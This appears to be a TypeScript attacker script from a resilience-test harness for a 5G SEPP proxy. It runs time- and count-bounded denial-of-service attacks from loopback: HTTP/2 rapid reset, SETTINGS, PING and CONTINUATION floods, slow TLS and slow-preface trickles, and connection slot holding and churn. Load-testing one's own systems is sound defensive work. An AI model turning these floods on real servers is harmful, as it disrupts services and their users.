// scripts/abuse/attacker.ts — the attacker process of `npm run abuse` (its own process, so its CPU use does not
// slow the legitimate load generator's clock): `bun scripts/abuse/attacker.ts <attack> <target JSON> <ms>` runs one
// attack against the SEPP under attack for at most <ms>, from loopback only, and prints one JSON line with what
// it saw. Every attack is bounded in count as well as in time.
import {
  captureClientHello,
  clientPreface,
  frame,
  FRAME,
  headersFrame,
  n32TlsConn,
  PREFACE,
  tcpConn,
  type Conn,
  type Summary,
} from "./raw.ts";
import { churn, continuationFlood, controlFlood, holdSlots, rapidReset, trickle } from "./attacks-common.ts";
import { ATTACK_QUERY, type AttackTarget } from "./world.ts";

/** the attacker's own loopback address on the SBI side (the legitimate NF uses 127.0.0.1) */
const SBI_SRC = "127.0.0.2";
/** on the N32 side (the legitimate partner, the home SEPP, connects from 127.0.0.1) */
const N32_SRC = "127.0.0.3";

/** 4 flooding connections of ≤ 400 000 frames each (500 per write); each one the server ends is replaced (SBI: ≤ 80
 *  per second, N32: ≤ 20, TLS set-up) */
const SBI_FLOOD = { conns: 4, maxConns: 1000, gapMs: 50, batch: 500, maxWritesPerConn: 800 };
const N32_FLOOD = { conns: 4, maxConns: 300, gapMs: 200, batch: 500, maxWritesPerConn: 800 };

type Attack = (t: AttackTarget, ms: number) => Promise<Summary>;

const sbiTcp = (t: AttackTarget) => (): Conn => tcpConn(t.sbiPort, SBI_SRC);
const sbiGet =
  (t: AttackTarget) =>
  (i: number): Array<[string, string]> => [
    [":method", "GET"],
    [":scheme", "http"],
    [":path", `${t.udmPath}?${ATTACK_QUERY}&i=${i}`],
    [":authority", t.udmAuthority],
  ];

export const ATTACKS: Record<string, { what: string; run: Attack }> = {
  "n32-nonpeer-slots": {
    what: "N32 slot holding, valid chain but no configured peer (300 connections kept, PING every 2 s)",
    run: (t, ms) =>
      holdSlots(() => n32TlsConn(t, "nonPeer"), {
        target: 300,
        perSecond: 40,
        maxAttempts: 1000,
        durationMs: ms,
        h2: true,
        pingEveryMs: 2000,
      }),
  },
  "n32-partner-key-slots": {
    what: "N32 slot holding with the partner's own key beyond its quota (40 connections kept, PING every 2 s)",
    run: (t, ms) =>
      holdSlots(() => n32TlsConn(t, "partner"), {
        target: 40,
        perSecond: 20,
        maxAttempts: 400,
        durationMs: ms,
        h2: true,
        pingEveryMs: 2000,
      }),
  },
  "sbi-idle-flood": {
    what: "SBI idle TCP connections from one address (2000 kept open, each closed one reopened)",
    run: (t, ms) =>
      holdSlots(sbiTcp(t), { target: 2000, perSecond: 400, maxAttempts: 8000, durationMs: ms, h2: false }),
  },
  "sbi-rapid-reset": {
    what: "SBI rapid reset: HEADERS + RST_STREAM, 50 pairs per write, reconnecting after each GOAWAY",
    run: (t, ms) =>
      rapidReset(sbiTcp(t), sbiGet(t), {
        batch: 50,
        maxStreams: 300_000,
        durationMs: ms,
        maxConns: 2000,
        gapMs: 5,
      }),
  },
  "n32-rapid-reset": {
    what: "N32 rapid reset with the partner's key: HEADERS + RST_STREAM, 50 pairs per write",
    run: (t, ms) =>
      rapidReset(
        () => n32TlsConn(t, "partner"),
        (i) => [
          [":method", "POST"],
          [":scheme", "https"],
          [":path", `/n32f-forward/v1/n32f-process?${ATTACK_QUERY}&i=${i}`],
          [":authority", t.n32Fqdn],
        ],
        { batch: 50, maxStreams: 100_000, durationMs: ms, maxConns: 300, gapMs: 5 },
      ),
  },
  "sbi-settings-flood": {
    what: "SBI SETTINGS flood, 500 per write, 4 connections at a time (each ended one replaced)",
    run: (t, ms) => controlFlood(sbiTcp(t), "settings", { ...SBI_FLOOD, durationMs: ms }),
  },
  "sbi-ping-flood": {
    what: "SBI PING flood, 500 per write, 4 connections at a time (each ended one replaced)",
    run: (t, ms) => controlFlood(sbiTcp(t), "ping", { ...SBI_FLOOD, durationMs: ms }),
  },
  "n32-settings-flood": {
    what: "N32 SETTINGS flood with the partner's key, 500 per write, 4 connections at a time",
    run: (t, ms) => controlFlood(() => n32TlsConn(t, "partner"), "settings", { ...N32_FLOOD, durationMs: ms }),
  },
  "n32-ping-flood": {
    what: "N32 PING flood with the partner's key, 500 per write, 4 connections at a time",
    run: (t, ms) => controlFlood(() => n32TlsConn(t, "partner"), "ping", { ...N32_FLOOD, durationMs: ms }),
  },
  "n32-slow-tls": {
    what: "N32 slow TLS: 400 connections trickling a real ClientHello, one octet per 500 ms",
    run: async (t, ms) =>
      trickle(() => tcpConn(t.n32Port, N32_SRC), await captureClientHello(t), {
        target: 400,
        perSecond: 100,
        everyMs: 500,
        maxAttempts: 2000,
        durationMs: ms,
      }),
  },
  "sbi-slow-preface": {
    what: "SBI slow HTTP/2 preface from one address: 200 connections, one octet per 500 ms",
    run: (t, ms) =>
      trickle(sbiTcp(t), PREFACE, { target: 200, perSecond: 100, everyMs: 500, maxAttempts: 2000, durationMs: ms }),
  },
  "n32-tcp-idle-flood": {
    what: "N32 idle TCP connections (no TLS) from one address: 400 kept open, each closed one reopened",
    run: (t, ms) =>
      holdSlots(() => tcpConn(t.n32Port, N32_SRC), {
        target: 400,
        perSecond: 100,
        maxAttempts: 4000,
        durationMs: ms,
        h2: false,
      }),
  },
  "sbi-churn": {
    what: "SBI connection churn from one address: connect, send the HTTP/2 preface and SETTINGS, close; ≤ 1500 a second, ≤ 15000",
    run: (t, ms) =>
      churn(sbiTcp(t), clientPreface(), {
        conns: 8,
        perSecond: 1500,
        maxAttempts: 15_000,
        durationMs: ms,
      }),
  },
  "n32-tcp-churn": {
    what: "N32 TCP connection churn (no TLS) from one address: connect, close; ≤ 1500 a second, ≤ 15000",
    run: (t, ms) =>
      churn(() => tcpConn(t.n32Port, N32_SRC), null, {
        conns: 8,
        perSecond: 1500,
        maxAttempts: 15_000,
        durationMs: ms,
      }),
  },
  "n32-tls-churn": {
    what: "N32 TLS churn with the partner's key: full handshake, HTTP/2 preface and SETTINGS, close; ≤ 150 a second, ≤ 1500",
    run: (t, ms) =>
      churn(() => n32TlsConn(t, "partner"), clientPreface(), {
        conns: 4,
        perSecond: 150,
        maxAttempts: 1500,
        durationMs: ms,
      }),
  },
  "sbi-continuation-flood": {
    what: "SBI CONTINUATION flood: HEADERS without END_HEADERS, then empty CONTINUATION frames, 500 per write",
    run: (t, ms) =>
      continuationFlood(sbiTcp(t), (i) => openBlock(sbiGet(t)(i)), {
        batch: 500,
        maxFrames: 2_000_000,
        durationMs: ms,
        maxConns: 2000,
        gapMs: 2,
      }),
  },
  "n32-continuation-flood": {
    what: "N32 CONTINUATION flood with the partner's key: HEADERS without END_HEADERS, then empty CONTINUATION frames",
    run: (t, ms) =>
      continuationFlood(
        () => n32TlsConn(t, "partner"),
        (i) =>
          openBlock([
            [":method", "POST"],
            [":scheme", "https"],
            [":path", `/n32f-forward/v1/n32f-process?${ATTACK_QUERY}&i=${i}`],
            [":authority", t.n32Fqdn],
          ]),
        { batch: 500, maxFrames: 1_000_000, durationMs: ms, maxConns: 300, gapMs: 2 },
      ),
  },
};

/** A HEADERS frame on stream 1 that does not end its field block (END_STREAM only): CONTINUATION must follow. */
function openBlock(headers: Array<[string, string]>): Buffer {
  return frame(FRAME.HEADERS, 0x1, 1, headersFrame(1, headers).subarray(9));
}

if (import.meta.main) {
  const [name, targetJson, msArg] = process.argv.slice(2);
  const attack = name ? ATTACKS[name] : undefined;
  if (!attack || !targetJson) {
    process.stderr.write(`usage: attacker.ts <${Object.keys(ATTACKS).join("|")}> <target JSON> <ms>\n`);
    process.exit(2);
  }
  const ms = Math.min(Number(msArg) || 10_000, 15_000);
  const summary = await attack.run(JSON.parse(targetJson) as AttackTarget, ms);
  process.stdout.write(`${JSON.stringify(summary)}\n`);
  process.exit(0);
}
